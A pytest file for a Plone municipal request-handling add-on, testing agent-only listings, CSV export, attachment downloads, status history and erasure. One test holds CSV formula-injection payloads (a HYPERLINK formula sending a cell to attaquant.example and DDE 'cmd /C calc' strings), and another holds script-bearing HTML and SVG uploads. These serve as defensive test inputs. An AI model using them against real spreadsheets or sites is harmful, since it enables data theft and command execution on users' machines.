"""The agents' side: listing, filters, CSV, status history, erasure; closed to visitors."""

from .forms import submit
from .forms import switch_off
from mairie.policy.sve import agents
from mairie.policy.sve.records import all_requests
from mairie.policy.sve.records import store_request
from plone import api
from plone.app.testing import SITE_OWNER_NAME
from plone.app.testing import SITE_OWNER_PASSWORD

import csv
import html
import io
import logging
import pytest
import re
import requests
import transaction


AUTH = (SITE_OWNER_NAME, SITE_OWNER_PASSWORD)


def editor(site):
    api.user.create(email="agent@example.org", username="agent", password="secret-agent-42")
    api.user.grant_roles(username="agent", roles=["Editor"])
    transaction.commit()
    return ("agent", "secret-agent-42")


def test_only_agents_see_the_requests(site, smtp):
    form = site["demarches"]["nous-contacter"]
    submit(form.absolute_url())
    url = f"{form.absolute_url()}/@@demandes"
    anonymous = requests.get(url, timeout=30, allow_redirects=False)
    assert anonymous.status_code in (302, 401)
    assert "jeanne.martin" not in anonymous.text
    page = requests.get(url, auth=editor(site), timeout=30)
    assert page.status_code == 200
    assert "jeanne.martin@example.net" in page.text
    assert '<th scope="col"' in page.text


def test_filter_search_and_csv(site, smtp):
    form = site["demarches"]["nous-contacter"]
    submit(form.absolute_url())
    submit(form.absolute_url(), email="paul@example.net", subject="État civil")
    url = f"{form.absolute_url()}/@@demandes"
    page = requests.get(url, params={"q": "état"}, auth=AUTH, timeout=30).text
    assert "paul@example.net" in page
    assert "jeanne.martin@example.net" not in page
    page = requests.get(url, params={"statut": "traitee"}, auth=AUTH, timeout=30).text
    assert "paul@example.net" not in page
    export = requests.get(f"{url}.csv", auth=AUTH, timeout=30)
    assert export.headers["Content-Type"].startswith("text/csv")
    assert export.content.startswith("\ufeff".encode())
    rows = export.content.decode("utf-8-sig").splitlines()
    assert len(rows) == 3
    assert "Horaires de la déchetterie" in export.content.decode("utf-8-sig")


def test_csv_cells_that_look_like_formulas_stay_text(site, smtp):
    """A spreadsheet runs a cell starting with = + - @ : the export shows it as text."""
    form = site["demarches"]["nous-contacter"]
    typed = {
        "name": '=HYPERLINK("http://attaquant.example/?"&A1,"Voir")',
        "subject": "@SUM(1+1)*cmd|' /C calc'!A0",
        "message": "-2+3+cmd|' /C calc'!A0",
    }
    submit(form.absolute_url(), **typed)
    submit(form.absolute_url(), name="+33 6 12 34 56 78", subject="Horaires", message="ok")
    export = requests.get(f"{form.absolute_url()}/@@demandes.csv", auth=AUTH, timeout=30)
    header, *rows = csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";")
    cells = {value for row in rows for value in row}
    for value in typed.values():
        assert f"'{value}" in cells
    assert "'+33 6 12 34 56 78" in cells
    assert "Horaires" in cells and "ok" in cells
    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@")]


HTML = (
    b'<!DOCTYPE html><html><head><title>x</title></head><body><form method="post">'
    b"<script>alert(document.cookie)</script></form></body></html>"
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"


@pytest.mark.parametrize(
    "filename, data, sent_type, served_type",
    [
        ("page.html", HTML, "text/html", "application/octet-stream"),
        (
            "dessin.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
            "image/svg+xml",
            "application/octet-stream",
        ),
        ("piece.pdf", PDF, "application/pdf", "application/pdf"),
    ],
)
def test_an_attached_file_comes_back_as_sent(site, smtp, filename, data, sent_type, served_type):
    """Byte for byte, as a download: no theme, no CSRF script, never shown as a page."""
    form = site["demarches"]["nous-contacter"]
    submit(form.absolute_url(), files={"form.widgets.attachment": (filename, data, sent_type)})
    transaction.begin()
    [record] = all_requests(form)
    session = requests.Session()
    session.auth = editor(site)
    page = session.get(f"{form.absolute_url()}/@@demande?numero={record.number}", timeout=30)
    link = html.unescape(re.search(r'href="([^"]*@@demande-fichier[^"]*)"', page.text).group(1))
    download = session.get(link, timeout=30)
    assert download.status_code == 200
    assert download.content == data
    assert download.headers["Content-Type"] == served_type
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert filename in download.headers["Content-Disposition"]
    assert download.headers["X-Content-Type-Options"] == "nosniff"


def test_status_change_is_recorded_and_sends_a_pending_receipt(site, smtp):
    form = site["demarches"]["faire-une-demande"]  # manual review
    submit(form.absolute_url())
    take_up(site, form, smtp)


def test_requests_of_a_form_switched_off_are_still_handled(site, smtp):
    """Unticking the action stops new requests, not the work on those received."""
    form = site["demarches"]["faire-une-demande"]
    submit(form.absolute_url())
    switch_off(form)
    assert agents.sve_action(form) is None
    take_up(site, form, smtp)


def take_up(site, form, smtp):
    """An agent takes the form's one request up: history, receipt, page."""
    transaction.begin()
    [record] = all_requests(form)
    session = requests.Session()
    session.auth = editor(site)
    url = f"{form.absolute_url()}/@@demande?numero={record.number}"
    page = session.get(url, timeout=30).text
    token = re.search(r'name="_authenticator" value="([^"]+)"', page).group(1)
    session.post(url, data={"statut": "en-cours", "_authenticator": token}, timeout=30)
    transaction.begin()
    [record] = all_requests(form)
    assert record.status == "en-cours"
    assert [(who, status) for _when, who, status in record.history] == [
        ("", "recue"),
        ("agent", "en-cours"),
    ]
    assert record.receipt_sent is not None
    assert [record.number in mail.subject for mail in smtp.to("jeanne.martin@example.net")] == [
        True,
        True,
    ]
    page = session.get(url, timeout=30).text
    assert "agent" in page


def test_erasure_of_one_address_with_confirmation(site, smtp, caplog):
    form = site["demarches"]["nous-contacter"]
    submit(form.absolute_url())
    submit(form.absolute_url())
    submit(form.absolute_url(), email="paul@example.net")
    session = requests.Session()
    session.auth = AUTH
    url = f"{form.absolute_url()}/@@effacer-demandes"
    token = re.search(
        r'name="_authenticator" value="([^"]+)"', session.get(url, timeout=30).text
    ).group(1)
    data = {"email": "Jeanne.Martin@example.net", "_authenticator": token}
    confirm = session.post(url, data=data, timeout=30).text
    assert 'name="confirmer"' in confirm
    transaction.begin()
    assert len(all_requests(form)) == 3
    with caplog.at_level(logging.INFO, logger="mairie.policy"):
        session.post(url, data={**data, "confirmer": "1"}, timeout=30)
    transaction.begin()
    assert [record.email for record in all_requests(form)] == ["paul@example.net"]
    [entry] = [r.getMessage() for r in caplog.records if "erased" in r.getMessage()]
    assert "2 request(s)" in entry
    assert "jeanne" not in entry.lower()


def test_the_list_comes_in_pages_of_fifty(site, smtp):
    form = site["demarches"]["nous-contacter"]
    for index in range(55):
        store_request(form, "T", True, {"name": f"P{index}"}, f"p{index}@example.net")
    transaction.commit()
    session = requests.Session()
    session.auth = editor(site)
    url = f"{form.absolute_url()}/@@demandes"
    first = session.get(url, timeout=30).text
    assert first.count('<th scope="row">') == 50
    assert "Demandes trouvées : 55" in first
    assert "p54@example.net" in first and "p4@example.net" not in first
    last = session.get(url, params={"b_start": "50"}, timeout=30).text
    assert last.count('<th scope="row">') == 5
    assert "p4@example.net" in last
    junk = session.get(url, params={"b_start": "abc"}, timeout=30)
    assert junk.status_code == 200
    assert junk.text.count('<th scope="row">') == 50
